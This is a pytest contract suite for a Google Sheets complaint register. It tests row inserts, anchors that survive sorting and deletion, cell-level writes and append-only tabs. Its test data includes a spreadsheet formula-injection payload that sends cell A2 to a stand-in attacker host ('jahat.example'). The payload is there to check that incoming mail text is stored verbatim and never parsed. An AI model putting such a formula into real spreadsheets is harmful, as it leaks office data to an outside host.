"""What every register must do: the fake and the sandbox's spreadsheet under one suite."""

from collections.abc import Callable
from dataclasses import replace
from typing import Final

import pytest

from automation.errors import AmbiguousError, RegisterDriftError, TransientError
from automation.model import Anchoring, Cell, NewRow, PenAnswer, Row, RowChange, TabLine
from automation.register import pen, rows, writes
from automation.register.sheets_client import SheetsClient
from tests.contract import live
from tests.contract.registers import (
    KINDS,
    Folio,
    Prepared,
    ServedFolio,
    folio,
    made,
    prepare,
    session,
)
from tests.sandbox.google.conftest import WORKER

pytestmark = pytest.mark.contract

SERVED: Final = [kind for kind in KINDS if kind.startswith("sandbox")]
DRAGS: Final = [("draf", 1), ("nomor", 9), ("pesan_sistem", 3), ("kontak", 20), ("", 4)]
"""Columns and where somebody drags them; without a name a new one is inserted there."""

FIRST: Final = 2
"""The row below the header."""


@pytest.fixture(scope="module", name="prepared")
def _prepared() -> Prepared:
    """Make the register's spreadsheet once."""
    return prepare()


@pytest.fixture(name="sheet", params=[*KINDS, *live.kinds()])
def _sheet(request: pytest.FixtureRequest, prepared: Prepared) -> Folio:
    """Give each kind of register in turn, empty."""
    if request.param == live.LIVE:
        return live.folio(prepared, live.place())
    return folio(request.param, prepared)


@pytest.fixture(name="moving", params=[KINDS[0], SERVED[0]])
def _moving(request: pytest.FixtureRequest, prepared: Prepared) -> Folio:
    """Give the registers whose anchors follow a sort."""
    return folio(request.param, prepared)


@pytest.fixture(name="served", params=SERVED)
def _served(request: pytest.FixtureRequest, prepared: Prepared) -> ServedFolio:
    """Give the registers that lie behind a connection."""
    found = folio(request.param, prepared)
    assert isinstance(found, ServedFolio)
    return found


def number(n: int) -> str:
    """Give a register number."""
    return f"PKT-2026-{n:04}"


def anchor(n: int) -> int:
    """Give the anchor that belongs to a number."""
    return writes.anchor(number(n))


def new(n: int, **cells: Cell) -> NewRow:
    """Make a row to insert."""
    filled = {"nomor": number(n), "tahap": "Menunggu disposisi", "perihal": f"Jalan {n}"}
    return NewRow(number(n), anchor(n), {**filled, **cells})


def fill(sheet: Folio, *numbers: int) -> None:
    """Let the worker insert rows below what stands."""
    sheet.register.insert([new(n) for n in numbers], [], [], sheet.register.read().last_used)


def numbers(sheet: Folio) -> list[str]:
    """Give the number column from the top, blank cells as ""."""
    return [rows.text(cells.get("nomor")) for cells in sheet.stands()]


def at(sheet: Folio, n: int) -> int:
    """Give the first row of a number."""
    return numbers(sheet).index(number(n)) + FIRST


def cell(sheet: Folio, n: int, column: str) -> str:
    """Give what a cell in the row of a number says."""
    return rows.text(sheet.stands()[at(sheet, n) - FIRST].get(column))


def again(sheet: Folio, *numbers_: int) -> dict[int, Row]:
    """Read the rows of these numbers as they stand now."""
    return dict(sheet.register.reread([anchor(n) for n in numbers_]))


def wanted(n: int, expected: dict[str, str] | None = None, **cells: Cell) -> RowChange:
    """Make a change of a row."""
    return RowChange(number(n), anchor(n), cells, expected or {})


def nameless(n: int) -> RowChange:
    """Make the change that writes a number into a row without one."""
    return replace(wanted(n, nomor=number(n)), by_anchor=True)


def written(sheet: Folio, *changes: RowChange) -> tuple[str, ...]:
    """Read the rows again and write, as a pass does."""
    rows_now = sheet.register.reread([change.anchor for change in changes])
    return sheet.register.change(changes, rows_now)


def line(mark: int, tab: str = "riwayat") -> TabLine:
    """Make a line of a tab that only grows."""
    return TabLine(tab, (46_350.5, number(mark), "Sistem", f"Peristiwa {mark}."), mark)


def told(sheet: Folio, tab: str = "riwayat") -> list[Cell]:
    """Give what the lines of a tab say, from the top."""
    return [cells[3] for cells in sheet.lines(tab) if cells]


class TestReading:
    """The register as it stands."""

    def test_an_empty_register_ends_at_its_header(self, sheet: Folio) -> None:
        """The first complaint goes right below the header."""
        snapshot = sheet.register.read()
        assert (snapshot.rows, snapshot.last_used) == ((), 1)

    def test_cells_come_by_column_name(self, sheet: Folio) -> None:
        """Numbers and dates stay numbers, texts stay as they were typed, blanks are left out."""
        sheet.put(3, nomor=number(7), tanggal=46_350.25, kontak="0812", desa="", perihal=" Air ")
        cells: dict[str, Cell] = {"nomor": number(7)}
        cells |= {"tanggal": 46_350.25, "kontak": "0812", "perihal": " Air "}
        assert sheet.register.read().rows == (Row(3, number(7), cells),)

    def test_a_number_counts_without_the_spaces_around_it(self, sheet: Folio) -> None:
        """A slip of the space bar must not make a case vanish."""
        sheet.put(2, nomor=f" {number(1)} ")
        assert [row.number for row in sheet.register.read().rows] == [number(1)]

    def test_a_typed_row_has_no_number(self, sheet: Folio) -> None:
        """That is how a hand-entered complaint is known."""
        sheet.put(2, kanal="Telepon")
        assert sheet.register.read().rows == (Row(2, "", {"kanal": "Telepon"}),)

    def test_the_last_used_row_is_the_last_with_anything_in_it(self, sheet: Folio) -> None:
        """A stray word far below belongs to somebody too."""
        sheet.put(2, nomor=number(1))
        sheet.put(40, keterangan="x")
        assert sheet.register.read().last_used == 40

    def test_an_unticked_box_is_nothing(self, sheet: Folio) -> None:
        """A column of checkboxes must not push new rows to the end of the tab."""
        sheet.put(2, nomor=number(1))
        sheet.put(40, keterangan=False)
        snapshot = sheet.register.read()
        assert (len(snapshot.rows), snapshot.last_used) == (1, 2)

    def test_the_offices_own_tabs_come_with_their_headers(
        self, sheet: Folio, prepared: Prepared
    ) -> None:
        """What the office may change is read in every pass."""
        tabs = sheet.register.read().tabs
        assert set(tabs) == {"peran", "kalender", "pengaturan", "daftar_blokir"}
        titles = [column.title for column in prepared.schema.tab("peran").column]
        assert list(tabs["peran"][0]) == titles
        assert list(tabs["peran"][1][:3]) == ["Petugas", "", "Petugas Pengaduan"]


VERBATIM: Final = [
    '=IMPORTXML("https://jahat.example/?"&A2;"//a")',
    "+62 812-0000-0301",
    "081234567890",
    "-1",
    "'kutip",
    "@semua",
    "TRUE",
    "24/11/2026",
    "1.250,50",
    "baris satu\nbaris dua\t😀",
    "x" * 49_000,
]


class TestInserting:
    """New rows, each exactly once."""

    def test_rows_come_after_the_last_used_one_in_order(self, sheet: Folio) -> None:
        """The newest complaint stands last."""
        fill(sheet, 1)
        fill(sheet, 2, 3)
        assert numbers(sheet) == [number(1), number(2), number(3)]

    @pytest.mark.parametrize("text", VERBATIM, ids=lambda text: text[:12])
    def test_a_mail_is_never_parsed(self, sheet: Folio, text: str) -> None:
        """A formula in a mail would run in the office's sheet; a phone number lose its zero."""
        sheet.register.insert([new(1, uraian=text)], [], [], 1)
        assert sheet.register.read().rows[0].cells["uraian"] == text

    def test_numbers_stay_numbers(self, sheet: Folio) -> None:
        """A date that became text could no longer be sorted."""
        sheet.register.insert([new(1, batas_waktu=46_350.40764, sisa_menit=-3)], [], [], 1)
        cells = sheet.register.read().rows[0].cells
        assert (cells["batas_waktu"], cells["sisa_menit"]) == (46_350.40764, -3)

    def test_the_same_rows_again_stay_single(self, sheet: Folio) -> None:
        """A pass that died before its ledger heard of it repeats itself."""
        for _ in range(2):
            sheet.register.insert([new(1), new(2)], [], [], 1)
        assert numbers(sheet) == [number(1), number(2)]

    def test_a_repeat_brings_what_is_new(self, sheet: Folio) -> None:
        """One row that stands already must not keep out the others."""
        sheet.register.insert([new(1)], [], [], 1)
        sheet.register.insert([new(1), new(2)], [], [], 2)
        assert numbers(sheet) == [number(1), number(2)]

    def test_a_lost_answer_doubles_nothing(self, sheet: Folio) -> None:
        """Done, but the connection broke: the next pass must find the rows there."""
        sheet.cut("insert")
        with pytest.raises(AmbiguousError):
            sheet.register.insert([new(1), new(2)], [], [line(1)], 1)
        sheet.register.insert([new(1), new(2)], [], [line(1)], 1)
        assert numbers(sheet) == [number(1), number(2)]
        assert told(sheet) == ["Peristiwa 1."]

    def test_a_refused_insert_did_nothing(self, sheet: Folio) -> None:
        """Rows and lines come together or not at all, and the next pass brings them."""
        sheet.away("insert")
        with pytest.raises(TransientError) as error:
            sheet.register.insert([new(1)], [], [line(1)], 1)
        assert not isinstance(error.value, AmbiguousError)
        assert (numbers(sheet), told(sheet)) == ([], [])
        sheet.register.insert([new(1)], [], [line(1)], 1)
        assert (numbers(sheet), told(sheet)) == ([number(1)], ["Peristiwa 1."])

    def test_a_stray_cell_far_below_deflects_nothing(self, sheet: Folio) -> None:
        """Google's append would begin under the stray cell, in its column."""
        fill(sheet, 1)
        sheet.put(40, keterangan="x")
        fill(sheet, 2)
        assert sheet.register.read().rows[-1] == Row(41, number(2), dict(new(2).cells))

    def test_who_types_meanwhile_loses_nothing(self, sheet: Folio) -> None:
        """Two people begin rows where the worker is about to insert: theirs move down."""
        fill(sheet, 1)

        def type_below() -> None:
            sheet.put(3, kanal="Telepon", nama="Made")
            sheet.put(4, kanal="WA", nama="Ketut")

        sheet.meanwhile("insert", type_below)
        fill(sheet, 2)
        assert numbers(sheet) == [number(1), number(2), "", ""]
        assert sheet.stands()[2:] == [
            {"kanal": "Telepon", "nama": "Made"},
            {"kanal": "WA", "nama": "Ketut"},
        ]

    def test_rows_deleted_meanwhile_cost_no_row(self, sheet: Folio) -> None:
        """The place of the last row is stale a moment after it was read."""
        fill(sheet, 1, 2)
        sheet.meanwhile("insert", lambda: sheet.delete(2))
        fill(sheet, 3)
        assert [n for n in numbers(sheet) if n] == [number(2), number(3)]

    def test_a_deleted_row_can_be_put_back(self, sheet: Folio) -> None:
        """A case that vanished from the sheet is inserted under its old anchor."""
        fill(sheet, 1, 2)
        sheet.delete(at(sheet, 1))
        fill(sheet, 1)
        assert numbers(sheet) == [number(2), number(1)]
        assert again(sheet, 1)[anchor(1)].position == 3

    def test_a_row_emptied_to_the_last_cell_is_put_back(self, sheet: Folio) -> None:
        """The anchor still rests on the blank row and must not keep the case out."""
        fill(sheet, 1, 2)
        sheet.put(2, nomor="", tahap="", perihal="")
        fill(sheet, 1)
        assert numbers(sheet) == ["", number(2), number(1)]
        assert again(sheet, 1)[anchor(1)].position == 4

    def test_a_row_that_lost_only_its_number_is_not_doubled(self, sheet: Folio) -> None:
        """The case still has its row; it gets the number back there."""
        fill(sheet, 1, 2)
        sheet.put(2, nomor="")
        fill(sheet, 1)
        assert numbers(sheet) == ["", number(2)]


DISTURBANCES: Final[dict[str, Callable[[Folio], None]]] = {
    "sorted": lambda sheet: sheet.sort("nomor", reverse=True),
    "inserted-above": lambda sheet: sheet.insert_blank(2),
    "deleted-above": lambda sheet: sheet.delete(2),
    "typed-below": lambda sheet: sheet.put(9, kanal="Telepon"),
}


class TestRereading:
    """The rows behind their anchors, as they stand now."""

    @pytest.mark.parametrize("disturb", DISTURBANCES.values(), ids=DISTURBANCES)
    def test_a_row_is_found_wherever_it_went(
        self, sheet: Folio, disturb: Callable[[Folio], None]
    ) -> None:
        """People sort, insert and delete all day long."""
        fill(sheet, 1, 2, 3)
        disturb(sheet)
        assert again(sheet, 2) == {anchor(2): Row(at(sheet, 2), number(2), dict(new(2).cells))}

    def test_what_was_typed_since_is_seen(self, sheet: Folio) -> None:
        """A newer choice must be known before the old one is emptied."""
        fill(sheet, 1)
        sheet.put(2, disposisi="Kasi PMD")
        assert again(sheet, 1)[anchor(1)].cells["disposisi"] == "Kasi PMD"

    def test_a_row_that_is_gone_is_left_out(self, sheet: Folio) -> None:
        """Nothing may be written where a deleted row has been."""
        fill(sheet, 1, 2)
        sheet.delete(2)
        assert set(again(sheet, 1, 2)) == {anchor(2)}

    def test_a_copied_row_comes_marked(self, sheet: Folio) -> None:
        """Of two rows with one number nobody knows which is meant."""
        fill(sheet, 1, 2)
        sheet.duplicate(2)
        found = again(sheet, 1, 2)
        assert {anchor(1): True, anchor(2): False} == {a: row.doubled for a, row in found.items()}

    def test_of_copied_rows_without_an_anchor_none_comes(self, sheet: Folio) -> None:
        """The row under the anchor was deleted; two copies of it are left."""
        fill(sheet, 1, 2)
        sheet.duplicate(2)
        sheet.duplicate(2)
        sheet.delete(2)
        assert set(again(sheet, 1, 2)) == {anchor(2)}

    def test_a_row_that_lost_its_number_is_found_by_its_anchor(self, sheet: Folio) -> None:
        """Clearing the number cell must not cut the case off."""
        fill(sheet, 1, 2)
        sheet.put(2, nomor="")
        row = again(sheet, 1)[anchor(1)]
        assert (row.position, row.number, row.cells["perihal"]) == (2, "", "Jalan 1")

    def test_a_row_under_a_foreign_number_is_left_out(self, sheet: Folio) -> None:
        """The number is the truth, the anchor only the way to it."""
        fill(sheet, 1)
        sheet.put(2, nomor=number(9))
        assert again(sheet, 1) == {}

    def test_a_number_that_moved_to_another_row_is_found_there(self, sheet: Folio) -> None:
        """Somebody cut the cells of a case and pasted them elsewhere."""
        fill(sheet, 1, 2)
        sheet.put(9, nomor=number(1), perihal="Jalan 1")
        sheet.put(2, nomor="", tahap="", perihal="")
        assert again(sheet, 1)[anchor(1)].position == 9


class TestAnchoring:
    """Rows that people typed."""

    def test_a_typed_row_is_found_by_its_anchor(self, sheet: Folio) -> None:
        """It has no number yet; only the anchor tells it from its neighbours."""
        sheet.put(2, kanal="Telepon")
        sheet.put(3, kanal="WA")
        sheet.register.insert([], [Anchoring(anchor(1), 3)], [], 3)
        assert again(sheet, 1) == {anchor(1): Row(3, "", {"kanal": "WA"})}

    def test_anchoring_and_inserting_go_together(self, sheet: Folio) -> None:
        """A mail and a phone call in one pass must not end in each other's row."""
        sheet.put(2, kanal="Telepon")
        sheet.register.insert([new(2)], [Anchoring(anchor(1), 2)], [], 2)
        found = again(sheet, 1, 2)
        assert (found[anchor(1)].position, found[anchor(2)].position) == (2, 3)

    def test_anchoring_may_be_repeated(self, sheet: Folio) -> None:
        """After a lost answer the anchor stays where it was put, and the new row stays single."""
        sheet.put(2, kanal="Telepon")
        sheet.cut("insert")
        with pytest.raises(AmbiguousError):
            sheet.register.insert([new(2)], [Anchoring(anchor(1), 2)], [], 2)
        sheet.insert_blank(2)
        sheet.register.insert([new(2)], [Anchoring(anchor(1), 2)], [], 2)
        assert again(sheet, 1)[anchor(1)].position == 3
        assert numbers(sheet) == ["", "", number(2)]

    def test_an_anchor_that_fell_on_a_numbered_row_is_not_believed(self, sheet: Folio) -> None:
        """Rows moved between looking and anchoring: another case must not be taken over."""
        fill(sheet, 1)
        sheet.put(3, kanal="Telepon")
        sheet.meanwhile("insert", lambda: sheet.insert_blank(2))
        sheet.register.insert([], [Anchoring(anchor(2), 3)], [], 3)
        assert again(sheet, 2) == {}

    def test_an_anchor_may_be_set_again_where_its_row_went(self, sheet: Folio) -> None:
        """The row was cut out from under it and pasted elsewhere."""
        sheet.put(2, kanal="Telepon")
        sheet.register.insert([], [Anchoring(anchor(1), 2)], [], 2)
        sheet.put(4, kanal="WhatsApp")
        sheet.register.insert([], [Anchoring(anchor(1), 4, again=True)], [], 4)
        assert {anchor(1): 4} == {a: row.position for a, row in again(sheet, 1).items()}

    def test_an_anchored_row_takes_its_number(self, sheet: Folio) -> None:
        """The typed complaint becomes a case in its own row."""
        sheet.put(2, kanal="Telepon")
        sheet.register.insert([], [Anchoring(anchor(1), 2)], [], 2)
        assert written(sheet, nameless(1)) == (number(1),)
        assert sheet.stands() == [{"nomor": number(1), "kanal": "Telepon"}]


class TestChanging:
    """Cells of known rows, and no other cell."""

    def test_only_the_named_cells_are_written(self, sheet: Folio) -> None:
        """Every other cell of the row, and every other row, belongs to somebody."""
        fill(sheet, 1, 2)
        sheet.put(2, disposisi="Kasi PMD", draf="Yth.", keterangan="x")
        before = sheet.stands()
        assert written(sheet, wanted(1, tahap="Penyusunan draf", sisa_menit=38)) == (number(1),)
        assert sheet.stands() == [
            {**before[0], "tahap": "Penyusunan draf", "sisa_menit": 38},
            before[1],
        ]

    def test_an_empty_text_empties_the_cell(self, sheet: Folio) -> None:
        """A decision that was dealt with makes room for the next."""
        fill(sheet, 1)
        sheet.put(2, disposisi="Kasi PMD")
        written(sheet, wanted(1, {"disposisi": "Kasi PMD"}, disposisi=""))
        assert "disposisi" not in sheet.stands()[0]

    def test_what_is_written_is_never_parsed(self, sheet: Folio) -> None:
        """A sentence may begin with anything, also in a column that is formatted for numbers."""
        fill(sheet, 1)
        written(sheet, wanted(1, pesan_sistem="=1+1", sisa_menit="=1+1", jam="007"))
        cells = [cell(sheet, 1, name) for name in ("pesan_sistem", "sisa_menit", "jam")]
        assert cells == ["=1+1", "=1+1", "007"]

    def test_a_newer_choice_is_not_eaten(self, sheet: Folio) -> None:
        """Somebody chose again before the old choice was emptied: the whole row waits."""
        fill(sheet, 1, 2)
        sheet.put(2, disposisi="Kasi PMD")
        sheet.meanwhile("reread", lambda: sheet.put(2, disposisi="Kasi Kesos"))
        changes = (
            wanted(1, {"disposisi": "Kasi PMD"}, disposisi="", tahap="x"),
            wanted(2, tahap="y"),
        )
        assert written(sheet, *changes) == (number(2),)
        assert cell(sheet, 1, "disposisi") == "Kasi Kesos"
        assert cell(sheet, 1, "tahap") == "Menunggu disposisi"

    def test_a_row_that_was_not_reread_is_not_written(self, sheet: Folio) -> None:
        """What was not proven a moment ago is left alone."""
        fill(sheet, 1)
        assert sheet.register.change([wanted(1, tahap="x")], {}) == ()
        assert cell(sheet, 1, "tahap") == "Menunggu disposisi"

    def test_a_warning_is_written_into_the_row_that_was_copied(self, sheet: Folio) -> None:
        """The office must see that nothing chosen there is obeyed."""
        fill(sheet, 1)
        sheet.duplicate(2)
        change = replace(wanted(1, pesan_sistem="Nomor ganda."), warning=True)
        assert written(sheet, change) == (number(1),)
        assert ["Nomor ganda.", None] == [c.get("pesan_sistem") for c in sheet.stands()]

    def test_a_copied_row_is_not_written(self, sheet: Folio) -> None:
        """Neither of two rows with one number is touched."""
        fill(sheet, 1)
        sheet.duplicate(2)
        assert written(sheet, wanted(1, tahap="x")) == ()
        assert [cells["tahap"] for cells in sheet.stands()] == ["Menunggu disposisi"] * 2

    @pytest.mark.parametrize("disturb", DISTURBANCES.values(), ids=DISTURBANCES)
    def test_rows_moved_after_the_snapshot_are_met(
        self, sheet: Folio, disturb: Callable[[Folio], None]
    ) -> None:
        """The answer of one citizen must never stand in the row of another."""
        fill(sheet, 1, 2, 3)
        sheet.register.read()
        sheet.meanwhile("reread", lambda: disturb(sheet))
        assert written(sheet, wanted(2, tahap="x"), wanted(3, tahap="y")) == (number(2), number(3))
        assert (cell(sheet, 2, "tahap"), cell(sheet, 3, "tahap")) == ("x", "y")
        assert [c["perihal"] for c in sheet.stands() if c.get("tahap") == "x"] == ["Jalan 2"]

    @pytest.mark.parametrize("disturb", DISTURBANCES.values(), ids=DISTURBANCES)
    def test_rows_moved_at_the_last_moment_are_met(
        self, moving: Folio, disturb: Callable[[Folio], None]
    ) -> None:
        """Between rereading and writing only the anchor can follow the row."""
        fill(moving, 1, 2, 3)
        moving.meanwhile("change", lambda: disturb(moving))
        assert written(moving, wanted(2, tahap="x"), wanted(3, tahap="y")) == (number(2), number(3))
        assert (cell(moving, 2, "tahap"), cell(moving, 3, "tahap")) == ("x", "y")

    def test_a_row_deleted_at_the_last_moment_harms_no_other(self, sheet: Folio) -> None:
        """A write whose row is gone must not fall on the row that moved up."""
        fill(sheet, 1, 2)
        sheet.meanwhile("change", lambda: sheet.delete(2))
        written(sheet, wanted(1, tahap="x"))
        assert [cells["tahap"] for cells in sheet.stands()] == ["Menunggu disposisi"]

    def test_a_lost_number_is_put_back(self, sheet: Folio) -> None:
        """The row without number is reached by its anchor and mended."""
        fill(sheet, 1, 2)
        sheet.put(2, nomor="")
        assert written(sheet, nameless(1)) == (number(1),)
        assert numbers(sheet) == [number(1), number(2)]

    def test_a_row_without_number_is_written_only_if_it_is_meant(self, sheet: Folio) -> None:
        """A sort may have left the anchor behind on a complaint that somebody just typed."""
        fill(sheet, 1, 2)
        sheet.put(2, nomor="")
        assert written(sheet, wanted(1, tahap="x")) == ()

    def test_a_lost_answer_is_told_and_the_repeat_is_harmless(self, sheet: Folio) -> None:
        """Writing the same cells twice changes nothing."""
        fill(sheet, 1)
        sheet.cut("change")
        with pytest.raises(AmbiguousError):
            written(sheet, wanted(1, tahap="x"))
        assert written(sheet, wanted(1, tahap="x")) == (number(1),)
        assert cell(sheet, 1, "tahap") == "x"

    @pytest.mark.parametrize("method", ["read", "reread", "change"])
    def test_a_service_that_is_away_is_waited_for(self, sheet: Folio, method: str) -> None:
        """Nothing was done, nothing is doubtful: the next pass tries again."""
        fill(sheet, 1)
        sheet.away(method)
        with pytest.raises(TransientError) as error:
            _ = (sheet.register.read(), written(sheet, wanted(1, tahap="x")))
        assert not isinstance(error.value, AmbiguousError)
        assert cell(sheet, 1, "tahap") == "Menunggu disposisi"
        assert written(sheet, wanted(1, tahap="x")) == (number(1),)


class TestLines:
    """Tabs that only grow."""

    def test_the_newest_stands_on_top(self, sheet: Folio) -> None:
        """Whoever opens the history sees what happened last."""
        sheet.register.insert([], [], [line(1), line(3), line(2)], 1)
        sheet.register.insert([], [], [line(4)], 1)
        assert told(sheet) == [f"Peristiwa {n}." for n in (4, 3, 2, 1)]

    def test_each_tab_has_its_own_lines(self, sheet: Folio) -> None:
        """A held mail and the history grow in one call, each by its own mark."""
        sheet.register.insert([], [], [line(7), line(1, "karantina"), line(2, "surat_lain")], 1)
        tabs = ("riwayat", "karantina", "surat_lain")
        assert [told(sheet, tab) for tab in tabs] == [[f"Peristiwa {n}."] for n in (7, 1, 2)]

    def test_lines_up_to_the_mark_are_there_already(self, sheet: Folio) -> None:
        """The ledger forgot how far it came: each event still stands once."""
        sheet.register.insert([], [], [line(1), line(2)], 1)
        sheet.register.insert([], [], [line(1), line(2), line(3)], 1)
        assert told(sheet) == ["Peristiwa 3.", "Peristiwa 2.", "Peristiwa 1."]

    def test_a_lost_answer_doubles_no_line(self, sheet: Folio) -> None:
        """After an unknown outcome the sheet itself says which lines it has."""
        sheet.register.insert([], [], [line(1)], 1)
        sheet.cut("insert")
        with pytest.raises(AmbiguousError):
            sheet.register.insert([], [], [line(2)], 1)
        sheet.register.insert([], [], [line(2), line(3)], 1)
        assert told(sheet) == ["Peristiwa 3.", "Peristiwa 2.", "Peristiwa 1."]

    def test_a_lost_answer_to_nothing_loses_no_line(self, sheet: Folio) -> None:
        """Refused before anything was done: the lines come with the next pass."""
        sheet.away("insert")
        with pytest.raises(TransientError):
            sheet.register.insert([], [], [line(1)], 1)
        sheet.register.insert([], [], [line(1), line(2)], 1)
        assert told(sheet) == ["Peristiwa 2.", "Peristiwa 1."]


PENS: Final = ("karantina", "surat_lain")


def code(mark: int) -> str:
    """Give the code of a mail."""
    return f"{mark:012x}"


def mail(mark: int, tab: str = "karantina", *more: str) -> TabLine:
    """Make a line of the pen."""
    return TabLine(
        tab, (46_350.5, "a@b.example", "Promo", "=1+1", "Massal", code(mark), *more), mark
    )


def spoken(sheet: Folio, prepared: Prepared, tab: str = "karantina") -> list[tuple[str, ...]]:
    """Give what is chosen and answered in a tab of the pen, read anew, from the top."""
    raw = sheet.register.read().pen[tab]
    found, _ = pen.read(prepared.schema.tab(tab), raw)
    return [(row.code, row.choice, row.number, row.message) for row in found]


class TestPen:
    """Lines about which a person decides."""

    def test_an_empty_pen_is_read_with_its_header(self, sheet: Folio, prepared: Prepared) -> None:
        """A tab that could not be read must be told from one in which nothing stands."""
        found = sheet.register.read().pen
        assert set(found) == set(PENS)
        assert [pen.read(prepared.schema.tab(tab), found[tab])[1] for tab in PENS] == [
            frozenset()
        ] * 2

    def test_choices_are_read_beside_the_code(self, sheet: Folio, prepared: Prepared) -> None:
        """Code, choice and number are of one row and one moment."""
        sheet.register.insert([], [], [mail(1), mail(2), mail(3, "surat_lain")], 1)
        sheet.choose("karantina", 3, tindakan="Gabungkan ke nomor", nomor=number(1))
        assert spoken(sheet, prepared) == [(code(1), "Gabungkan ke nomor", number(1), "")]
        raw = sheet.register.read().pen["karantina"]
        codes = pen.read(prepared.schema.tab("karantina"), raw)[1]
        assert codes == {code(1), code(2)}

    def test_an_answer_stands_in_the_row_that_was_read(
        self, sheet: Folio, prepared: Prepared
    ) -> None:
        """Also when new lines come in the same call: they push the row down after it."""
        sheet.register.insert([], [], [mail(1), mail(2)], 1)
        sheet.register.read()
        answer = PenAnswer("karantina", 3, "=Dibiarkan")
        sheet.register.insert([new(1)], [], [mail(3), line(1)], 1, [answer])
        assert spoken(sheet, prepared) == [(code(1), "", "", "=Dibiarkan")]
        sheet.register.insert([], [], [], 1, [PenAnswer("karantina", 4, "")])
        assert spoken(sheet, prepared) == []

    def test_an_answer_to_a_row_that_moved_harms_nothing(
        self, sheet: Folio, prepared: Prepared
    ) -> None:
        """It misses its row; the next reading shows where it stands."""
        sheet.register.insert([], [], [mail(1)], 1)
        sheet.register.read()
        sheet.meanwhile("insert", lambda: sheet.push_down("karantina"))
        sheet.register.insert([], [], [], 1, [PenAnswer("karantina", 2, "Dibiarkan")])
        assert spoken(sheet, prepared) == [("", "", "", "Dibiarkan")]

    def test_a_line_may_come_with_its_answer(self, sheet: Folio, prepared: Prepared) -> None:
        """A restored register shows what was decided."""
        sheet.register.insert([], [], [mail(1, "karantina", "Biarkan", "", "Dibiarkan")], 1)
        assert spoken(sheet, prepared) == [(code(1), "Biarkan", "", "Dibiarkan")]

    def test_its_columns_are_followed(self, served: ServedFolio, prepared: Prepared) -> None:
        """The Petugas moves the choice to the front and keeps a column of her own."""
        served.register.insert([], [], [mail(1)], 1)
        gid = served.gid("karantina")
        move = {"source": {**served.span("COLUMNS", 6), "sheetId": gid}, "destinationIndex": 0}
        insert = {"range": {**served.span("COLUMNS", 3), "sheetId": gid}}
        served.do({"moveDimension": move}, {"insertDimension": insert})
        served.write("Karantina!A2", "Biarkan")
        served.register.read()
        served.register.insert([], [], [mail(2)], 1)
        assert spoken(served, prepared) == [(code(1), "Biarkan", "", "")]
        served.register.insert([], [], [], 1, [PenAnswer("karantina", 3, "Dibiarkan")])
        assert spoken(served, prepared) == [(code(1), "Biarkan", "", "Dibiarkan")]
        served.register.insert([], [], [mail(3)], 1)
        assert served.values("Karantina!H2:H4") == [[code(3)], [code(2)], [code(1)]]

    def test_columns_that_changed_places_at_the_same_spot_are_told_apart(
        self, served: ServedFolio, prepared: Prepared
    ) -> None:
        """Number and answer swapped: an answer over the number would be a choice of its own."""
        served.register.insert([], [], [mail(1)], 1)
        gid = served.gid("karantina")
        move = {"source": {**served.span("COLUMNS", 8), "sheetId": gid}, "destinationIndex": 7}
        served.do({"moveDimension": move})
        served.register.read()
        served.register.insert([], [], [], 1, [PenAnswer("karantina", 2, "Dibiarkan")])
        assert spoken(served, prepared) == [(code(1), "", "", "Dibiarkan")]

    @pytest.mark.parametrize("count", [1, 3])
    def test_a_pen_without_its_columns_stops_nothing(
        self, served: ServedFolio, prepared: Prepared, count: int
    ) -> None:
        """An older version made the tab, narrower: mail is recorded all the same until `init`."""
        served.register.insert([], [], [mail(1)], 1)
        columns = {**served.span("COLUMNS", 6, count), "sheetId": served.gid("karantina")}
        served.do({"deleteDimension": {"range": columns}})
        assert set(served.register.read().pen) == {"surat_lain"}
        served.register.insert([], [], [mail(2)], 1)
        before = len(served.calls())
        assert set(served.register.read().pen) == {"surat_lain"}
        assert len(served.calls()) == before + 1
        made(
            SheetsClient(session(served.desk, served.door), WORKER, 30, float),
            served.desk.id,
            prepared.schema,
        )
        served.choose("karantina", 2, tindakan="Biarkan")
        assert spoken(served, prepared) == [(code(2), "Biarkan", "", "")]

    def test_a_register_without_the_block_list_goes_on(self, served: ServedFolio) -> None:
        """An older version made it; the tab is found as soon as `init` has made it."""
        served.do({"deleteSheet": {"sheetId": served.gid("daftar_blokir")}})
        assert served.register.read().tabs["daftar_blokir"] == ()
        served.do({"addSheet": {"properties": {"title": "Daftar Blokir"}}})
        served.write("'Daftar Blokir'!A1", "Alamat")
        assert served.register.read().tabs["daftar_blokir"] == (("Alamat",),)


class TestPeopleAtTheSheet:
    """What staff do to rows, columns and tabs."""

    def test_the_tab_grows_at_its_end(self, served: ServedFolio) -> None:
        """Google makes a thousand rows; the thousandth complaint is not the last."""
        served.put(1000, keterangan="x")
        fill(served, 1, 2)
        assert [at(served, n) for n in (1, 2)] == [1001, 1002]
        assert again(served, 2)[anchor(2)].position == 1002

    def test_moved_columns_are_followed(self, served: ServedFolio) -> None:
        """A Kasi puts the draft beside the complaint: reading and writing go on."""
        fill(served, 1)
        move = {"source": served.span("COLUMNS", served.places()["draf"]), "destinationIndex": 1}
        served.do({"moveDimension": move})
        served.put(2, draf="Yth.")
        assert served.register.read().rows[0].cells["draf"] == "Yth."
        written(served, wanted(1, tahap="x"))
        fill(served, 2)
        assert (cell(served, 1, "tahap"), cell(served, 2, "perihal")) == ("x", "Jalan 2")
        assert cell(served, 1, "draf") == "Yth."

    def test_an_inserted_column_is_left_to_its_owner(self, served: ServedFolio) -> None:
        """The office keeps a column of its own between ours."""
        fill(served, 1)
        served.do({"insertDimension": {"range": served.span("COLUMNS", 1)}})
        served.write("Register!B1", "Catatan kami")
        served.write("Register!B2", "penting")
        served.register.read()
        written(served, wanted(1, tahap="x"))
        fill(served, 2)
        assert served.values("Register!B1:B3") == [["Catatan kami"], ["penting"]]
        assert served.register.read().rows[0].cells == {**new(1).cells, "tahap": "x"}

    def test_a_renamed_column_is_known_by_its_mark(self, served: ServedFolio) -> None:
        """A title is for people; only that of the number column proves that row 1 is the header."""
        fill(served, 1)
        served.write(f"Register!R1C{served.places()['perihal'] + 1}", "Pokok")
        assert served.register.read().rows[0].cells["perihal"] == "Jalan 1"

    def test_columns_moved_at_the_last_moment_stop_the_pass(self, served: ServedFolio) -> None:
        """Between reading and rereading the columns changed places: write nothing, look again."""
        fill(served, 1)
        served.register.read()
        source = served.span("COLUMNS", served.places()["draf"])
        served.do({"moveDimension": {"source": source, "destinationIndex": 1}})
        with pytest.raises(TransientError, match="columns were moved"):
            again(served, 1)
        served.register.read()
        assert written(served, wanted(1, tahap="x")) == (number(1),)

    @pytest.mark.parametrize("drag", DRAGS)
